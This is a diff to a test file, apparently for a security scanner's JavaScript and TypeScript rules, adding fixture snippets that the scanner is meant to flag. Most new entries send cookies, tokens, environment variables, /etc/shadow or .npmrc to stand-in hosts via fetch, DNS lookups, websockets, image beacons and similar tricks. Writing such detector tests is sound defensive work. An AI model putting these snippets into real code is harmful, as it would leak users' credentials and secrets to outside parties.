@@ -137,6 +137,11 @@ const HIDDEN: readonly (readonly [string, string, string])[] = [
   ],
   ["js-suspicious-address", "src/case.js", "fetch('http://185.220.101.4:8080/x');"],
   [
+    "js-suspicious-address",
+    "src/case.js",
+    "const host = ['web', 'hook.site'].join('');\nfetch('https://' + host + '/x', { method: 'POST', body: x });",
+  ],
+  [
     "js-exfiltration",
     "src/case.js",
     "require('dns').resolve4(process.env.NPM_TOKEN + '.x.example', () => {});",
@@ -192,6 +197,68 @@ const HIDDEN: readonly (readonly [string, string, string])[] = [
     "src/case.ts",
     "import nodemailer from 'nodemailer';\nnodemailer.createTransport(o).sendMail({ text: JSON.stringify(process.env) });",
   ],
+  ["js-exfiltration", "src/case.js", "const { cookie } = document;\nfetch('https://x.example/?' + cookie);"],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "fetch('https://x.example', { method: 'POST', body: new URLSearchParams(process.env) });",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "const snapshot = structuredClone(process.env);\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(snapshot) });",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "const secrets = ['A_TOKEN', 'B_KEY'].map((k) => process.env[k]);\nfetch('https://x.example/' + secrets.join());",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.ts",
+    "import { env } from 'process';\nimport http from 'http';\nhttp.request({ host: 'x.example', method: 'PUT' }).end(JSON.stringify(env));",
+  ],
+  ["js-exfiltration", "src/case.js", "const es = new EventSource('https://x.example/?' + document.cookie);"],
+  [
+    "js-exfiltration",
+    "src/case.ts",
+    "import { request } from 'node:https';\nconst r = request('https://x.example');\nr.write(process.env.NPM_TOKEN);",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.ts",
+    "import dns from 'node:dns/promises';\nawait dns.resolve(`${Buffer.from(process.env.SECRET).toString('hex')}.x.example`);",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.ts",
+    "import fs from 'node:fs';\nfetch('https://x.example', { method: 'POST', body: fs.readFileSync('/etc/shadow') });",
+  ],
+  [
+    "js-exfiltration",
+    "src/case.ts",
+    "import fs from 'node:fs';\nconst k = fs.readFileSync(`${process.env.HOME}/.npmrc`, 'utf8');\nfetch('https://x.example', { method: 'POST', body: k });",
+  ],
+  ["js-exfiltration", "src/case.js", "new Image().src = '//x.example/?' + localStorage.token;"],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "document.createElement('img').src = 'https://x.example/?' + document.cookie;",
+  ],
+  ["js-suspicious-address", "src/case.js", "fetch('https://abc.ngrok.io/', { method: 'POST', body });"],
+  ["js-suspicious-address", "src/case.js", "fetch('http://0x2d4d0c09/');"],
+  [
+    "js-exfiltration",
+    "src/case.ts",
+    "import ws from 'ws';\nnew ws('ws://198.51.100.7:1337').on('open', function () { this.send(JSON.stringify(process.env)); });",
+  ],
+  ["js-suspicious-address", "src/case.ts", "Bun.connect({ hostname: '198.51.100.7', port: 1 });"],
+  [
+    "js-exfiltration",
+    "src/case.js",
+    "document.body.style.backgroundImage = `url(https://x.example/?${document.cookie})`;",
+  ],
+  ["js-exfiltration", "src/case.js", "top.location.href = 'https://x.example/?' + document.cookie;"],
 ];
 
 describe("JavaScript and TypeScript", () => {
